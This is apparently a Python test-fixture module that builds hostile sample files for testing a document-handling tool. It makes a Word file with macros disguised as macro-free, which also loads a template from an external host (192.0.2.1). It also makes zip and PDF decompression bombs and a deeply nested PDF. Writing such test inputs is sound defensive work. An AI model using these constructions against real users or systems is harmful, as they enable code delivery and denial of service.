"""Files as people have them, good and bad, built where they are needed."""

import io
import zipfile
from pathlib import Path

import docx

from .conftest import pdf_of

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def word(*paragraphs: str, title: str = "", author: str = "") -> bytes:
    """Returns a Word file."""
    document = docx.Document()
    document.core_properties.title, document.core_properties.author = title, author
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    data = io.BytesIO()
    document.save(data)
    return data.getvalue()


def repacked(data: bytes, changes: dict[str, tuple[str, str]], more: dict[str, bytes] | None = None) -> bytes:
    """Returns the ZIP ``data`` with (old, new) replaced in some of its parts, and with more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            content = before.read(name)
            if name in changes:
                old, new = (each.encode() for each in changes[name])
                assert old in content, name
                content = content.replace(old, new)
            after.writestr(name, content)
        for name, content in (more or {}).items():
            after.writestr(name, content)
    return out.getvalue()


def word_with_macros(*paragraphs: str) -> bytes:
    """Returns a Word file with macros, named as if it had none, and a template that lies on another machine."""
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    part = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    macros = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    relations = (
        f'<Relationship Id="rIdM" Type="{macros}" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdX" Type="{OUTSIDE}" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
    )
    data = repacked(word(*paragraphs), {"[Content_Types].xml": (plain, MACROS)}, {"word/vbaProject.bin": b"Sub Auto"})
    data = repacked(data, {"[Content_Types].xml": ("</Types>", part + "</Types>")})
    return repacked(data, {"word/_rels/document.xml.rels": ("</Relationships>", relations + "</Relationships>")})


def bloated_word(megabytes: int) -> bytes:
    """Returns a small Word file whose text unpacks to many megabytes."""
    text = f"<w:p><w:r><w:t>{'a' * 1_000_000 * megabytes}</w:t></w:r></w:p><w:sectPr"
    return repacked(word("kort"), {"word/document.xml": ("<w:sectPr", text)})


def bomb_pdf(times: int = 400) -> bytes:
    """Returns a small PDF whose one page unpacks to ``times`` megabytes."""
    import zlib

    packed = zlib.compress(b"BT (a) Tj ET\n".ljust(1_000_000) * times, 9)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", tree, page, stream])


def nested_pdf(depth: int = 100_000) -> bytes:
    """Returns a PDF with an array in an array in an array …"""
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * depth + b"]" * depth])


def put(folder: Path, name: str, data: bytes | str) -> Path:
    """Writes a file and returns its path."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return folder / name
